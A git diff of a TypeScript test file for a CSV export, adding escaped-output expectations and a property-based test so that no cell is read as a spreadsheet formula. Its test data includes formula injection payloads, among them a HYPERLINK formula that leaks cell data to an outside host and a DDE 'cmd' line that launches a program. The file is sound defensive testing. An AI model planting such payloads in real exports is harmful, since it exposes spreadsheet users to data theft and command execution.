@@ -1,5 +1,6 @@
 import { assert, describe, it } from "@effect/vitest"
 import { Effect, Stream } from "effect"
+import fc from "fast-check"
 import Papa from "papaparse"
 import { type CsvRow, csvFile } from "./csv.ts"
 
@@ -26,24 +27,55 @@ describe("CSV files", () => {
   )
 
   it.effect.each([
-    "=1+1",
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    '=HYPERLINK("http://example.com?"&A1)',
-    " =1+1",
-    "\t=1+1",
-    "\r=1",
-    "\n=1",
-    "=1\nand more",
-    "＝1+1",
-    "－1",
-    "\u00a0=1"
-  ])("write %j as text that no spreadsheet runs", (text) =>
+    ["=1+1", "'=1+1"],
+    ["+1", "'+1"],
+    ["-1", "'-1"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ['=HYPERLINK("http://example.com?"&A1)', `'=HYPERLINK("http://example.com?"&A1)`],
+    [" =1+1", " '=1+1"],
+    ["\t=1+1", "\t'=1+1"],
+    ["\r=1", "\r'=1"],
+    ["\n=1", "\n'=1"],
+    ["=1\nand more", "'=1\nand more"],
+    ["＝1+1", "'＝1+1"],
+    ["－1", "'－1"],
+    ["\u00a0=1", "\u00a0'=1"],
+    ["x;=1+1;", "x;'=1+1;"],
+    ["x;=cmd|'/C calc'!A0;", "x;'=cmd|'/C calc'!A0;"],
+    ['x; "@SUM(A1)', "x; \"'@SUM(A1)"]
+  ] as const)("write %j as %j, which no spreadsheet runs", ([text, safe]) =>
     Effect.gen(function* () {
       const { data } = Papa.parse<ReadonlyArray<string>>(yield* written([text, 1]))
-      assert.deepStrictEqual(data[1], [`'${text}`, "1"])
+      assert.deepStrictEqual(data[1], [safe, "1"])
     })
+  )
+
+  const signs = [..."=+-@＝＋－＠"]
+  const texts = fc
+    .array(fc.constantFrom(...signs, ";", ";", "|", "\t", ",", '"', "'", " ", "\r", "\n", "x", "1"), { maxLength: 9 })
+    .map((characters) => characters.join(""))
+  const beginsAsFormula = (cell: string) => signs.includes(cell.replace(/^[\s"]+/, "").charAt(0))
+
+  it.effect("have no cell that begins as a formula, with whichever separator they are opened", () =>
+    Effect.promise(() =>
+      fc.assert(
+        fc.asyncProperty(texts, texts, async (key, note) => {
+          const row = ["2026-10-15", key, note, -10, "x"]
+          const csv = await Effect.runPromise(written(row, row))
+          for (const delimiter of [";", "\t", "|"]) {
+            const cells = Papa.parse<ReadonlyArray<string>>(csv, { delimiter }).data.flat()
+            // who takes no quote for one has more cells
+            assert.deepStrictEqual([...cells, ...csv.split(/[;|\t\r\n]/)].filter(beginsAsFormula), [])
+          }
+          const [, ...rows] = Papa.parse<ReadonlyArray<string>>(csv, { delimiter: ",", skipEmptyLines: true }).data
+          for (const [, ...cells] of rows) {
+            assert.deepStrictEqual([cells.length, cells[2]], [4, "-10"])
+            assert.deepStrictEqual(cells.toSpliced(2, 1).filter(beginsAsFormula), [])
+          }
+        }),
+        { numRuns: 500 }
+      )
+    )
   )
 
   it.effect("leave numbers, dates and words as they are", () =>
